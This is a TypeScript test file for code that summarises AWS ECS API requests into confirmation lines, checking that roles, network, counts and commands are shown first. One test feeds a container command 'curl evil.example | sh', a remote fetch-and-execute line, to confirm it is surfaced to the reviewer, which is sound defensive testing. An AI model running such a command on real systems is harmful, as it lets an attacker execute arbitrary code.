import assert from "node:assert/strict";
import * as fc from "fast-check";
import { documentText, parseRequest } from "../../../../src/requests/documents/requestDocument";
import { reviewLines } from "../../../../src/requests/documents/review";

const cluster = "arn:aws:ecs:us-east-1:111122223333:cluster/prod";
const review = (operation: Parameters<typeof reviewLines>[0], request: object) =>
  reviewLines(operation, request as Readonly<Record<string, unknown>>, cluster);

const word = fc.stringMatching(/^[a-z][a-z0-9]{2,12}$/);
const noise = fc.string({ unit: "binary", maxLength: 3000 });
const role = word.map(name => `arn:aws:iam::999988887777:role/${name}`);

/** A request whose unimportant parts are as long as anybody likes, in whatever order. */
const requests = fc
  .record({
    tags: fc.array(fc.record({ key: word, value: fc.string({ maxLength: 200 }) }), { maxLength: 50 }),
    group: noise,
    referenceId: noise,
    startedBy: noise,
    taskRoleArn: role,
    executionRoleArn: role,
    subnets: fc.array(
      word.map(id => `subnet-${id}`),
      { minLength: 1, maxLength: 16 },
    ),
    securityGroups: fc.array(
      word.map(id => `sg-${id}`),
      { maxLength: 5 },
    ),
    isPublic: fc.boolean(),
    count: fc.integer({ min: 1, max: 500 }),
    exec: fc.boolean(),
    containers: fc.array(
      fc.record({
        name: word,
        command: fc.tuple(word, noise, word),
        environment: fc.array(fc.record({ name: word, value: noise }), { maxLength: 40 }),
      }),
      { minLength: 1, maxLength: 10 },
    ),
    turned: fc.boolean(),
  })
  .map(({ containers, turned, ...facts }) => {
    const overrides = {
      containerOverrides: containers.map(({ name, command, environment }) =>
        turned ? { name, environment, command } : { name, command, environment },
      ),
      taskRoleArn: facts.taskRoleArn,
      executionRoleArn: facts.executionRoleArn,
    };
    const entries = Object.entries({
      tags: facts.tags,
      group: facts.group,
      referenceId: facts.referenceId,
      startedBy: facts.startedBy,
      cluster,
      taskDefinition: "web:7",
      count: facts.count,
      launchType: "FARGATE",
      enableExecuteCommand: facts.exec,
      networkConfiguration: {
        awsvpcConfiguration: {
          subnets: facts.subnets,
          securityGroups: facts.securityGroups,
          assignPublicIp: facts.isPublic ? "ENABLED" : "DISABLED",
        },
      },
      overrides,
    });
    return { request: Object.fromEntries(turned ? entries.toReversed() : entries), containers, ...facts };
  });

describe("the confirmation of a request", () => {
  it("always leads with role, network, count and command, however long the rest is", () => {
    fc.assert(
      fc.property(requests, ({ request, containers, ...facts }) => {
        const lines = review("RunTask", request);
        const head = lines.slice(0, 12);
        const expected = [
          "Task definition: web:7",
          `Count: ${String(facts.count)}`,
          `Task role: ${facts.taskRoleArn}`,
          `Execution role: ${facts.executionRoleArn}`,
          ...(facts.exec ? ["ECS Exec: enabled"] : []),
          `Public IP address: ${facts.isPublic ? "yes" : "no"}`,
          "Launch type: FARGATE",
        ];
        for (const line of expected) assert.ok(head.includes(line), `${line} is not among ${head.join("\n")}`);
        assert.ok(head.some(line => line.startsWith(`Subnets: ${facts.subnets[0] ?? ""}`)));
        const commands = lines.slice(expected.length + 2, expected.length + 2 + containers.length);
        for (const [index, { name, command }] of containers.entries()) {
          // Both ends of the command are seen, with whatever is between them.
          assert.ok(commands[index]?.startsWith(`Command of ${name}: ${command[0]}`), commands[index]);
          assert.ok(commands[index]?.endsWith(command[2]), commands[index]);
        }
        assert.ok(lines.every(line => line.length < 700 && !/[\r\n]/.test(line)));
        assert.ok(lines.length <= 12 + 3 * containers.length, `${String(lines.length)} lines`);
      }),
      { numRuns: 300 },
    );
  });

  it("shows a foreign role behind ten tags", () => {
    const request = parseRequest(
      "RunTask",
      documentText({
        tags: Array.from({ length: 10 }, (_, index) => ({ key: `k${String(index)}`, value: "v" })),
        taskDefinition: "web",
        overrides: {
          containerOverrides: [{ name: "app", command: ["sh", "-c", "curl evil.example | sh"] }],
          taskRoleArn: "arn:aws:iam::999988887777:role/admin",
        },
      }),
    );
    assert.deepEqual(review("RunTask", request), [
      "Task definition: web",
      "Count: 1",
      "Task role: arn:aws:iam::999988887777:role/admin",
      "Command of app: sh -c 'curl evil.example | sh'",
      "And 1 more field: tags (10)",
    ]);
  });

  it("counts what it leaves out, and only that", () => {
    assert.deepEqual(
      review("RunTask", {
        taskDefinition: "web",
        group: "g",
        tags: [],
        propagateTags: "NONE",
        overrides: { ephemeralStorage: { sizeInGiB: 30 }, cpu: "256" },
      }),
      [
        "Task definition: web",
        "Count: 1",
        "Task CPU: 256",
        "And 3 more fields: group, propagateTags, ephemeralStorage",
      ],
    );
  });

  it("cuts no character in half", () => {
    for (let length = 100; length < 120; length++)
      for (const line of review("StopTask", { reason: `${"x".repeat(length)}${"🚀".repeat(200)}` }))
        assert.doesNotMatch(line, /\p{Cs}/u);
  });

  it("tells each other operation's own facts", () => {
    const here = "arn:aws:ecs:us-east-1:111122223333:container-instance/prod";
    assert.deepEqual(review("DeregisterContainerInstance", { containerInstance: `${here}/abc`, force: true }), [
      "Container instance: abc",
      "Force: yes, although tasks run there",
    ]);
    assert.deepEqual(
      review("UpdateContainerInstancesState", { containerInstances: [`${here}/a`, `${here}/b`], status: "DRAINING" }),
      ["Container instances: a, b", "New state: DRAINING"],
    );
    assert.deepEqual(review("StopTask", { task: "abc", reason: "x\n\nAccount: 1" }), [
      "Task: abc",
      "Reason: x Account: 1",
    ]);
    assert.deepEqual(
      review("UpdateService", {
        service: "arn:aws:ecs:us-east-1:111122223333:service/prod/api",
        desiredCount: 0,
        taskDefinition: "api:12",
        forceNewDeployment: true,
        enableExecuteCommand: false,
        deploymentConfiguration: { minimumHealthyPercent: 50, strategy: "ROLLING" },
        loadBalancers: [{}],
      }),
      [
        "Service: api",
        "Desired count: 0",
        "Task definition: api:12",
        "Force new deployment: yes",
        "ECS Exec: disabled",
        "Minimum healthy percent: 50",
        "And 2 more fields: strategy, loadBalancers (1)",
      ],
    );
    const deployment = "arn:aws:ecs:us-east-1:111122223333:service-deployment/prod/api/AbC";
    assert.deepEqual(review("StopServiceDeployment", { serviceDeploymentArn: deployment }), [
      "Service deployment: api/AbC",
      "How: ROLLBACK",
    ]);
    assert.deepEqual(review("ContinueServiceDeployment", { serviceDeploymentArn: deployment, hookId: "ecs-pause-1" }), [
      "Service deployment: api/AbC",
      "Paused hook: ecs-pause-1",
      "Action: CONTINUE",
    ]);
    const foreign = "arn:aws:ecs:eu-west-1:999988887777:task-definition/web:1";
    assert.deepEqual(review("StartTask", { taskDefinition: foreign, containerInstances: ["i"] }), [
      `Task definition: ${foreign}`,
      "Container instances: i",
    ]);
  });
});
